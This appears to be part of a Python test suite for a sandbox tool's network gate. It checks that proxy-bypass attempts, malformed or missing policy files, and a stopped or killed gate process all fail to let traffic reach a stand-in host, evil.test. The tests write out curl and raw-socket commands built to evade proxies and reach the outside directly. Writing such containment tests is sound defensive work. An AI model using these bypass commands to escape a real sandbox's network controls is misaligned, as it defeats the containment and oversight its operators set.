        tries = ["env -u HTTP_PROXY -u http_proxy -u HTTPS_PROXY -u https_proxy -u ALL_PROXY -u all_proxy curl -sS -m 4 http://evil.test/a",
                 "NO_PROXY='*' no_proxy='*' curl -sS -m 4 http://evil.test/b", "curl -sS -m 4 --noproxy '*' http://evil.test/c",
                 "curl -sS -m 4 --noproxy '*' --resolve evil.test:80:93.184.216.35 http://evil.test/d",
                 "curl -sS -m 4 --noproxy '*' http://93.184.216.35/e", "curl -sS -m 4 -x socks5h://127.0.0.1:1080 http://evil.test/f",
                 "python3 -c 'import socket; s=socket.create_connection((\"93.184.216.35\", 80), 4); s.sendall(b\"GET /g HTTP/1.0\\r\\n\\r\\n\"); print(s.recv(99))'"]
        r = c.sandbox("; ".join(tries) + "; curl -s -m 4 -o /dev/null http://ok.test/still; true", flags=ALLOW, timeout=60)
        c.need_control(net.hits("ok.test"), f"the gate was gone: {r}")
        none_at(c, net, "evil.test")
    return HELD


@check("NT-16", prio="P0", forms=RUN, title="an empty, missing, misspelt or unreadable network section opens nothing", catches=("gate-rules",))
def nt16(c):
    with internet(c) as net:
        reaches_outside(c, net, "evil.test")
        served(c, net)
        act = ["sh", "-c", "curl -sS -m 4 http://evil.test/x; curl -sS -m 4 --noproxy '*' http://93.184.216.35/y; touch ran"]
        for i, text in enumerate(('{"network":{"mode":"gate","allow":[]}}', '{"network":{"mode":"gate"}}', '{"network":{}}', "{}",
                                  '{"network":{"allow":["ok.test"],"deny":[]}}', '{"network":{"alow":["evil.test"]}}',
                                  '{"netwrok":{"allow":["evil.test"]}}', '{"network":{"mode":"open"}}', '{"network":{"mode":"host"}}')):
            r = c.vitrine("run", "--policy", str(c.plant(c.home / f"p{i}.jsonc", text)), "--", *act, timeout=30)
            c.must(r.refused or (c.ws / "ran").exists(), f"neither refused nor run: {r}")
            none_at(c, net, "evil.test")
        r = c.vitrine("run", "--policy", str(c.plant(c.home / "shut.jsonc", "{}", 0o000)), "--", *act, timeout=30)
        c.must(r.refused or c.ident == "root", f"an unreadable policy is none: {r}")
        r = c.vitrine("run", "--policy", str(c.home / "missing.jsonc"), "--", *act, timeout=30)
        c.must(r.refused, f"a missing policy is none: {r}")
        none_at(c, net, "evil.test")
    return HELD


@check("SV-03", prio="P0", forms=RUN, title="the gate stopped, then killed: nothing gets out any other way")
def sv03(c):
    with internet(c) as net:
        reaches_outside(c, net, "evil.test")
        p = c.start("curl -s -m 9 -o /dev/null http://ok.test/first && echo up; while [ ! -e go ]; do sleep 0.05; done; "
                    "for i in 1 2 3 4; do curl -sS -m 3 http://evil.test/past; curl -sS -m 3 --noproxy '*' http://93.184.216.35/past; done; "
                    "echo over", flags=ALLOW)
        c.need_control(p.wait_for("up", 20), f"not served: {p.err[-300:]}")
        here = os.stat("/proc/self/ns/net").st_ino
        gates = []
        for d in Path("/proc").glob("[0-9]*"):
            try:
                if (d / "cmdline").read_bytes().startswith(b"vitrine-gate\0") and os.stat(d / "ns/net").st_ino == here:
                    gates.append(int(d.name))
            except OSError:
                pass
        c.need_control(gates, "the gate is not found")
        for g in gates:
            os.kill(g, signal.SIGSTOP)
        c.plant(c.ws / "go")
        time.sleep(1.0)
        for g in gates:
            with suppress(ProcessLookupError):             # one dies with the other
                os.kill(g, signal.SIGKILL)
        c.need_control(p.wait_for("over", 40), f"did not end: {p.out[-300:]} {p.err[-300:]}")
        none_at(c, net, "evil.test")
        p.stop()
    return HELD


@check("PX-40", prio="P0", forms=RUN, idents=("user",), catches=("link-gate",),
       title="what leaves over the link of another engine is judged by the same gate")
def px40(c):
    flags = [*ALLOW, "--engine", "crun"]
    with internet(c) as net:
        reaches_outside(c, net, "evil.test")
        served(c, net, flags)
        a = talk(c, [(PROXY, get("http://evil.test/")), (("93.184.216.35", 80), get("http://evil.test/direct"))], flags)
        c.must(" 403 " in a[0] and " 200 " not in a[1], f"not refused: {a}")
        none_at(c, net, "evil.test")
    return HELD
